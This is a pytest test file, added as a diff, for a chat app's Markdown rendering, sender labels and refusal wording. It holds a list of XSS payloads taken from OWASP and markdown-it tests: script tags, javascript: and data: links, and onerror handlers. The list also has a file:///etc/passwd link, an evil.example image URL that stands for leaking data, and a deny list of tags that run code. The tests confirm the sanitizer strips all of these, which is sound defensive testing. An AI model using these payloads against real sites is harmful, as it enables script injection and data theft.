@@ -1,0 +1,432 @@
+"""Whose words the page shows, and how (issue 15, items 1, 4 and 5).
+
+- The assistant's words render as Markdown, made safe (chats/markdown.py).
+- A message from a chat app says who sent it and through which app.
+- Conch's words for the model fold into "note to the assistant" chips; refusals
+  read in the person's words; a stop is told once.
+
+The hostile corpus below is drawn from OWASP's "XSS Filter Evasion Cheat Sheet"
+(cheatsheetseries.owasp.org) and from markdown-it's own tests of dangerous link
+targets (markdown-it/test/fixtures/markdown-it/xss.txt), written as a model would
+put them in Markdown: links, images, autolinks, reference links, code fences, HTML
+blocks and inline HTML.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from chats import markdown as md
+from chats import refusals
+from chats.models import Mode, TurnState
+from chats.runtime.runner import drain
+from chats.runtime.turns import conversation_stop, message_send, turn_deny
+from tests.factories import ChatFactory
+
+# ---------------------------------------------------------------------------
+# What counts as safe: checked on the parsed output, not on its spelling
+
+
+class _Elements(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append((tag, attrs))
+
+    handle_startendtag = handle_starttag
+
+
+def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
+    parser = _Elements()
+    parser.feed(html)
+    parser.close()
+    return parser.elements
+
+
+RUNS_CODE_TAGS = {
+    "script", "iframe", "object", "embed", "style", "link", "meta", "base", "form",
+    "input", "button", "textarea", "select", "svg", "math", "img", "video", "audio",
+    "source", "frame", "frameset", "applet", "template", "details", "marquee", "body",
+}  # fmt: skip
+SAFE_SCHEMES = ("http:", "https:", "mailto:")
+
+
+def unsafe_parts(html: str) -> list[str]:
+    """Every tag, attribute or link in ``html`` that could run code or fetch on its own."""
+    found = []
+    for tag, attrs in elements(html):
+        if tag in RUNS_CODE_TAGS or tag not in md.TAGS:
+            found.append(f"<{tag}>")
+        for name, value in attrs:
+            allowed = md.ATTRIBUTES.get(tag, set()) | {"class", "rel", "target"}
+            if (
+                name.startswith("on")
+                or name in ("style", "srcdoc", "formaction")
+                or name not in allowed
+            ):
+                found.append(f"{tag}[{name}]")
+            if name == "href":
+                target = re.sub(r"[\x00-\x20]", "", value or "").lower()
+                scheme = re.match(r"^([a-z][a-z0-9+.\-]*):", target)
+                if scheme and not target.startswith(SAFE_SCHEMES):
+                    found.append(f"{tag}[href={value}]")
+            if name == "class":
+                for word in (value or "").split():
+                    if word not in md.CLASSES.get(tag, set()):
+                        found.append(f"{tag}.{word}")
+    return found
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<a href="javascript:alert(1)">x</a>',
+    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
+    "<details open ontoggle=alert(1)>",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](  javascript:alert(1)  )",
+    "[click](java\tscript:alert(1))",
+    "[click](javascript&colon;alert(1))",
+    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
+    "[click](&#x6A;avascript:alert(1))",
+    "[click](vbscript:msgbox(1))",
+    "[click](VBSCRIPT:msgbox(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[click](file:///etc/passwd)",
+    '[click](https://ok.example "title" onclick="alert(1)")',
+    '[click](https://ok.example"onmouseover="alert(1))',
+    "![x](javascript:alert(1))",
+    "![x](https://evil.example/leak?secret=1)",
+    '![x](https://evil.example/a.png"onerror="alert(1))',
+    "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "<javascript:alert(1)>",
+    "<vbscript:alert(1)>",
+    "<data:text/html,<script>alert(1)</script>>",
+    "javascript:alert(1)",
+    "www.example.com/<script>alert(1)</script>",
+    'https://example.com/"onmouseover="alert(1)',
+    "[ref]\n\n[ref]: javascript:alert(1)",
+    "[ref][r]\n\n[r]: data:text/html,hi 'onclick=alert(1)'",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "```javascript onload=alert(1)\nalert(1)\n```",
+    "```js\n</code></pre><img src=x onerror=alert(1)>\n```",
+    "    <script>alert(1)</script>",
+    "`<img src=x onerror=alert(1)>`",
+    "<div>\n<script>alert(1)</script>\n</div>",
+    "<!-- --><script>alert(1)</script><!-- -->",
+    "<style>body{background:url(javascript:alert(1))}</style>",
+    '<a href="#" hx-get="/evil/" hx-trigger="load">x</a>',
+    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
+    "# <script>alert(1)</script>",
+    "> <iframe src=javascript:alert(1)>",
+    "- [x](javascript:alert(1))\n- <b onclick=alert(1)>b</b>",
+    "*<img src=x onerror=alert(1)>*",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=javascript:alert(1)//>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_hostile_reply_renders_a_tag_attribute_or_scheme_that_runs_code(text):
+    html = md.render_markdown(text)
+    assert unsafe_parts(html) == [], html
+
+
+def test_raw_html_in_a_reply_is_shown_as_text():
+    html = md.render_markdown('Use <b onclick="x()">bold</b> and <script>go()</script>')
+
+    assert [tag for tag, _ in elements(html)] == ["p"]
+    assert "&lt;b onclick=" in html and "&lt;script&gt;go()&lt;/script&gt;" in html
+
+
+def test_the_cleaner_removes_what_runs_code_whatever_the_parser_lets_through():
+    # What a parser bug or a later plugin might emit: nh3 is the last word.
+    raw = (
+        '<p onclick="x()" style="color:red">a</p><script>alert(1)</script>'
+        '<a href="javascript:alert(1)">j</a><a href="data:text/html,x">d</a>'
+        '<img src="https://evil.example/x.png"><span class="sr-only k">s</span>'
+        '<pre class="code evil"><code data-lang="py" onmouseover="x()">c</code></pre>'
+    )
+    html = md.clean(raw)
+
+    assert unsafe_parts(html) == [], html
+    assert "alert" not in html and "evil.example" not in html
+    assert '<span class="k">s</span>' in html and '<pre class="code">' in html
+
+
+def test_an_image_is_a_link_the_person_may_follow_never_a_fetch():
+    html = md.render_markdown("![the chart](https://example.com/chart.png)")
+
+    assert [tag for tag, _ in elements(html)] == ["p", "a"]
+    assert 'href="https://example.com/chart.png"' in html and ">the chart</a>" in html
+
+
+# Pieces a model might string together, and any text at all between them.
+PIECES = st.sampled_from(
+    [
+        *HOSTILE,
+        "[", "]", "(", ")", "<", ">", "`", "```", "\n", "\n\n", "*", "_", "!", "|", "&",
+        "#", ";", ":", '"', "'", "=", "javascript", "vbscript", "data", "on", "error",
+        "href", "src", "style", "http://", "www.", "&#x3a;", "&colon;", "%3a", "\t",
+        "- ", "1. ", "> ", "---", "|---|", "    ",
+    ]
+)  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(PIECES | st.text(max_size=8), max_size=14).map("".join))
+def test_no_text_at_all_renders_anything_that_runs_code(text):
+    html = md.render_markdown(text)
+    assert unsafe_parts(html) == [], (text, html)
+
+
+# ---------------------------------------------------------------------------
+# What Markdown gives the person
+
+
+REPLY = """# Plan
+
+Steps:
+
+- read the **tests**
+- fix `login()`
+
+| file | lines |
+|:-----|------:|
+| login.py | 12 |
+
+See https://docs.example.com/login and [the guide](https://example.com/guide).
+
+```python
+def login(user):
+    return True
+```
+"""
+
+
+def test_a_reply_renders_headings_lists_tables_links_and_highlighted_code():
+    html = md.render_markdown(REPLY)
+    tags = [tag for tag, _ in elements(html)]
+
+    assert "h3" in tags and "h1" not in tags  # under the chat's own h1
+    assert tags.count("li") == 2 and "strong" in tags and "code" in tags
+    assert {"table", "th", "td"} <= set(tags)
+    assert '<td class="align-right">12</td>' in html  # alignment as a class, not a style
+    assert 'href="https://docs.example.com/login"' in html  # linkified
+    assert 'href="https://example.com/guide"' in html and 'target="_blank"' in html
+    assert 'rel="noopener noreferrer nofollow"' in html
+    assert '<pre class="code"><code data-lang="python">' in html
+    assert '<span class="k">def</span>' in html  # Pygments' keyword class
+    assert unsafe_parts(html) == []
+
+
+def test_code_in_an_unknown_language_is_still_a_plain_code_block():
+    html = md.render_markdown("```nosuchlang\n<b>x</b>\n```")
+    assert html.startswith('<pre class="code"><code data-lang="nosuchlang">&lt;b&gt;x&lt;/b&gt;')
+
+
+def test_the_code_colours_are_the_ones_pygments_makes():
+    assert (Path(__file__).parents[2] / "static" / "code.css").read_text() == md.code_css()
+
+
+@pytest.mark.django_db
+def test_the_assistants_words_render_and_the_persons_stay_plain(signed_in, owner, agent, workspace):
+    chat = ChatFactory(owner=owner, folder=str(workspace), script=[[{"say": REPLY}]])
+    message_send(conversation=chat, text="# not a heading\n\n- nor a list [x](https://a.example)")
+    drain()
+    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()
+
+    person = re.search(r'<div class="msg from-person".*?<div class="text">(.*?)</div>', html, re.S)
+    assert person.group(1) == "# not a heading\n\n- nor a list [x](https://a.example)"
+    assistant = re.search(r'<div class="text md">(.*?)</div></div>', html, re.S).group(1)
+    assert "<h3>Plan</h3>" in assistant and '<span class="k">def</span>' in assistant
+
+
+@pytest.mark.django_db(transaction=True)
+def test_live_words_render_as_markdown_in_the_same_slot(owner, agent):
+    from chats import events, regions
+
+    chat = ChatFactory(owner=owner)
+    shown = regions.render_event(
+        owner_id=owner.pk,
+        event=events.REPLY_TEXT,
+        seq=5,
+        conversation_id=chat.public_id,
+        showing=chat.public_id,
+        data={"turn": 1, "text": "## Half\n\n```py\nx = 1"},
+    )
+    assert '<div id="reply-1-text" class="msg from-assistant is-streaming" hx-disable' in shown
+    assert "<h4>Half</h4>" in shown and '<pre class="code"><code data-lang="py">' in shown
+
+
+# ---------------------------------------------------------------------------
+# Who spoke
+
+UPDATES = Path(__file__).parents[1] / "gateway" / "telegram_updates"
+
+
+@pytest.mark.django_db
+def test_a_telegram_message_shows_its_sender_and_app_not_you(signed_in, client, owner, agent):
+    from chats.gateway.models import ChannelAccount
+    from chats.gateway.services import channel_account_secret_rotate
+    from chats.gateway.telegram import SECRET_HEADER
+    from chats.models import Conversation
+
+    account = ChannelAccount.objects.create(
+        owner=owner, channel="telegram", account_id="mybot", secret="123456:SECRET-bot-token"
+    )
+    secret = channel_account_secret_rotate(account=account)
+    update = json.loads((UPDATES / "private_text.json").read_text())  # a recorded update
+    response = client.post(
+        "/gateway/telegram/mybot",
+        update,
+        content_type="application/json",
+        **{f"HTTP_{SECRET_HEADER.upper().replace('-', '_')}": secret},
+    )
+    assert response.status_code == 202
+    chat = Conversation.objects.get(public_id=response.json()["chat"])
+    message_send(conversation=chat, text="and this is me, the owner")  # queued behind it
+    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()
+
+    who = re.findall(r'<div class="who">(.*?)</div>', html)
+    assert who[0].startswith("Mario") and who[0].endswith(" · Telegram"), who
+    assert "You" not in who[0]
+
+
+@pytest.mark.django_db
+def test_the_owners_own_message_shows_as_you(signed_in, chat):
+    message_send(conversation=chat, text="hello")
+    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()
+    assert re.findall(r'<div class="who">(.*?)</div>', html) == ["You"]
+
+
+# ---------------------------------------------------------------------------
+# Words for the model, and words for the person
+
+
+def outside_details(html: str) -> str:
+    return re.sub(r"<details.*?</details>", "", html, flags=re.S)
+
+
+@pytest.mark.django_db
+def test_a_passed_on_message_is_seen_once_and_conchs_note_is_a_closed_chip(
+    signed_in, owner, agent, workspace, django_capture_on_commit_callbacks
+):
+    from together.messages import held_message_pass, inbound_set, message_chat
+    from together.models import ChatMessage
+
+    receiver = ChatFactory(owner=owner, folder=str(workspace), title="Fix the login")
+    receiver = inbound_set(conversation=receiver, inbound="hold")
+    sender = ChatFactory(owner=owner, folder=str(workspace), title="Release notes")
+    turn = message_send(conversation=sender, text="go")
+    message_chat(
+        sender=sender,
+        turn=turn,
+        chat_id=receiver.public_id,
+        text="Please run the login tests",
+        start_reply=True,
+    )
+    with django_capture_on_commit_callbacks(execute=True):  # Pass it on starts its reply
+        held_message_pass(message=ChatMessage.objects.get())
+    drain()
+    html = signed_in.get(f"/c/{receiver.public_id}/").content.decode()
+    transcript = re.search(r'<ol id="transcript".*?</ol>', html, re.S).group(0)
+
+    chips = re.findall(r"<details class=\"model-note\"[^>]*>.*?</details>", transcript, re.S)
+    assert len(chips) == 1 and '<details class="model-note" hx-disable>' in chips[0]  # closed
+    assert "<summary>note to the assistant</summary>" in chips[0]
+    assert "[Conch: a message from another" in chips[0] and "&lt;chat-message&gt;" in chips[0]
+    shown = outside_details(transcript)
+    assert shown.count("Please run the login tests") == 1  # the card's words
+    assert "[Conch:" not in shown and "chat-message&gt;" not in shown
+
+
+@pytest.mark.django_db
+def test_a_denied_step_reads_in_the_persons_words(signed_in, owner, agent, workspace):
+    chat = ChatFactory(
+        owner=owner,
+        folder=str(workspace),
+        mode=Mode.ASK,
+        script=[[{"tool": "write_file", "args": {"path": "a.txt", "content": "x"}}, {"say": "ok"}]],
+    )
+    turn = message_send(conversation=chat, text="write it")
+    drain()
+    turn_deny(turn=chat.turns.get())
+    drain()
+    assert turn.steps.get().error == "The person said no to this."  # the model's words, kept
+    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()
+
+    assert '<p class="step-error">Not run: you said no.</p>' in html
+    assert "The person said no" not in html
+
+
+@pytest.mark.django_db
+def test_a_tool_not_offered_reads_in_the_persons_words(signed_in, owner, agent, workspace):
+    chat = ChatFactory(
+        owner=owner,
+        folder=str(workspace),
+        mode=Mode.PLAN,  # plans only: no writes offered
+        script=[[{"tool": "write_file", "args": {"path": "a.txt", "content": "x"}}]],
+    )
+    turn = message_send(conversation=chat, text="write it")
+    drain()
+    assert turn.steps.get().error == "The tool 'write_file' isn't offered to this chat."
+    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()
+
+    assert "Not run: write_file isn&#x27;t one of this chat&#x27;s tools." in html
+    assert "isn&#x27;t offered to this chat" not in html
+
+
+@pytest.mark.parametrize(
+    "refusal, values",
+    [
+        (refusals.SAID_NO, {}),
+        (refusals.NOT_OFFERED, {"tool": "write_file"}),
+        (refusals.NOT_IN_SET, {"tool": "run_command", "persona": 'Ann\'s "bot"'}),
+        (refusals.NO_FOLDER_OF_ITS_OWN, {"tool": "x", "persona": "p", "folder": "/w (a)"}),
+    ],
+)
+def test_each_refusal_is_found_again_from_the_models_words(refusal, values):
+    words = refusal.for_model(**values)
+    shown = refusals.for_person(words)
+    assert shown != words and shown.startswith("Not run:")
+    assert refusal.match(words) == {k: v for k, v in values.items()}
+
+
+def test_an_error_that_is_no_refusal_is_shown_as_it_is():
+    assert refusals.for_person("No such file: a.txt") == "No such file: a.txt"
+    assert refusals.for_person("The tool 'x' isn't offered to this chat. Or is it?") == (
+        "The tool 'x' isn't offered to this chat. Or is it?"
+    )
+
+
+@pytest.mark.django_db
+def test_stopped_shows_once(signed_in, owner, agent, workspace):
+    chat = ChatFactory(owner=owner, folder=str(workspace))
+    message_send(conversation=chat, text="go")
+    conversation_stop(conversation=chat)
+    assert chat.turns.get().state == TurnState.STOPPED
+    html = signed_in.get(f"/c/{chat.public_id}/").content.decode()
+    transcript = re.search(r'<ol id="transcript".*?</ol>', html, re.S).group(0)
+    text = re.sub(r"<[^>]+>", " ", transcript)
+
+    assert text.count("Stopped: You stopped it.") == 1
+    assert not re.search(r"(?i)\bstopped\b", text.replace("Stopped: You stopped it.", "")), text
